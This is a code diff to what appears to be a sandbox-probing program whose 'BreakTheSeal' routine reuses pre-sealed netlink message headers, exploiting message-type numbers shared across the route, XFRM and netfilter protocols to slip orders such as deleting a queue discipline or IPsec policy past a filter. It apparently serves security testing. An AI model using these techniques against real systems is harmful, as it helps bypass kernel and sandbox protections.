@@ -27,6 +27,7 @@
 #include <cstring>
 #include <functional>
 #include <string>
+#include <tuple>
 #include <vector>
 
 namespace {
@@ -36,6 +37,8 @@ namespace {
 constexpr std::uintptr_t kSealed = 0x200000;
 constexpr std::size_t kSealedSize = 0x100000;
 constexpr std::uintptr_t kSealedDiag = kSealed + 0x80000;
+constexpr std::uintptr_t kSealedXfrm = kSealedDiag + 0x4000;
+constexpr int kFirstXfrmSocket = 640;
 
 void Say(const std::string& what, const std::string& result) {
   const std::string line = "attack: " + what + ": " + result + "\n";
@@ -282,6 +285,31 @@ void BreakTheSeal() {
     const int sent = ::sendmsg(netfilter, sealed, 0) < 0 ? errno : Answer(netfilter);
     Say("an order behind a sealed header", sent == 0 ? "taken for a question" : strerrorname_np(sent));
     ::close(netfilter);
+  }
+  // Type 37: XFRM_MSG_GETSPDINFO to one protocol, RTM_DELQDISC to another.
+  tcmsg queue = {};
+  queue.tcm_ifindex = 1;
+  if (const msghdr* sealed = FindSealed(kSealedXfrm, kSealedXfrm + 0x4000, RTM_DELQDISC, sizeof queue)) {
+    std::memcpy(sealed->msg_iov[1].iov_base, &queue, sizeof queue);
+    const int route = OpenSocket(NETLINK_ROUTE);
+    Report("delete a qdisc by the header for IPsec", ::sendmsg(route, sealed, 0) < 0 ? errno : Answer(route));
+    ::close(route);
+  } else {
+    Say("a header of type 37", "not here");
+  }
+  // Type 22: RTM_GETADDR to one, XFRM_MSG_ALLOCSPI to the other, whose socket is there already. Type 20:
+  // XFRM_MSG_DELPOLICY.
+  for (const auto& [type, from, to] :
+       {std::tuple{int{RTM_GETADDR}, kSealed, kSealedDiag}, std::tuple{int{RTM_NEWADDR}, kSealedDiag, kSealedXfrm}}) {
+    const msghdr* sealed = FindSealed(from, to, type, 248);
+    if (sealed == nullptr) {
+      Say("a header of type " + std::to_string(type), "not here");
+      continue;
+    }
+    for (const int socket : {kFirstXfrmSocket, OpenSocket(NETLINK_XFRM)}) {
+      Report("an order to IPsec by a header of type " + std::to_string(type),
+             ::sendmsg(socket, sealed, 0) < 0 ? errno : 0);
+    }
   }
   // Half a msghdr: an address that is no multiple.
   const int netfilter = OpenSocket(NETLINK_NETFILTER);
